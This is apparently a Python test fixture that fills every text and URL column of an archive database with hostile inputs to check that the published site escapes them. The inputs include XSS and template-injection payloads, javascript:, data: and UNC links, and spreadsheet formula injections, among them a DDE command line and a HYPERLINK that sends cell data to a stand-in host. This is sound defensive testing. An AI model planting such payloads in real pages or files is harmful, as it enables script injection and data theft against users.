"""A published archive in which whatever comes from outside attacks: names, titles, addresses, texts, printed cells."""

from pathlib import Path

from sqlite_utils import Database

from archive.schema import migrate
from tests.site_world import site_at

ELSEWHERE = "http://elsewhere.example"
PLANTS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    f"'><svg onload=alert(3)><a href='{ELSEWHERE}'>",
    f"</title></style><link rel=stylesheet href={ELSEWHERE}/s.css><style>@import '{ELSEWHERE}/t.css';*{{display:none}}</style>",
    f"<iframe src={ELSEWHERE}></iframe><meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    "]]></content><script>alert(4)</script>{{ 7*7 }}{% raw %}${alert(5)}",
    f'=HYPERLINK("{ELSEWHERE}?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ADDRESSES = [
    "javascript:alert(6)",
    "JaVaScRiPt:alert(7)//http://gov.cn",
    "data:text/html,<script>alert(8)</script>",
    f"//{ELSEWHERE.removeprefix('http://')}/x",
    'http://127.0.0.1:9/"onmouseover="alert(9)"><script>alert(10)</script>',
    "\\\\elsewhere.example\\x",
    "vbscript:msgbox(1)",
]
TEXTS = {
    "agency", "canonical_name", "compiled_by", "detail_en", "explanation", "explanation_en", "heading", "label", "link_text",
    "listed", "listed_agency", "member", "message", "message_en", "name", "new_raw", "old_raw", "printed_agency", "raw", "scope",
    "qualifier", "sentence", "source", "text", "title", "who",
}  # fmt: skip
LINKS = {"example_url", "final_url", "from_url", "home_url", "report_url", "to_url", "url", "via_url"}
"""Columns, of whatever table, that hold what was printed or linked outside."""


def hostile_site_at(path: Path) -> Path:
    """Write and publish the archive; return its folder."""
    return site_at(path, "\n".join(_statements()))


def _statements() -> list[str]:
    """Return SQL that plants something in every such column of every table."""
    shape = Database(memory=True)
    migrate(shape)
    return [
        f'UPDATE "{table.name}" SET "{column}" = {_turn(column, start, "WITHOUT ROWID" not in table.schema)};'
        for table in shape.tables
        for start, column in enumerate(table.columns_dict)
        if column in TEXTS | LINKS
    ]


def _turn(column: str, start: int, numbered: bool) -> str:
    """Return an SQL expression: another plant for each row in turn, and never the same text twice."""
    kinds = ADDRESSES if column in LINKS else PLANTS
    row = "rowid" if numbered else "0"
    cases = []
    for number, text in enumerate(kinds):
        quoted = "'" + text.replace("'", "''") + "'"
        first = column in LINKS or text[0] in "=@"
        kept = f"'#' || {row}" if column in LINKS else f'coalesce("{column}", {row})'
        cases.append(f"WHEN {number} THEN " + (f"{quoted} || {kept}" if first else f"{kept} || {quoted}"))
    return f"CASE ({row} + {start}) % {len(kinds)} {' '.join(cases)} END"
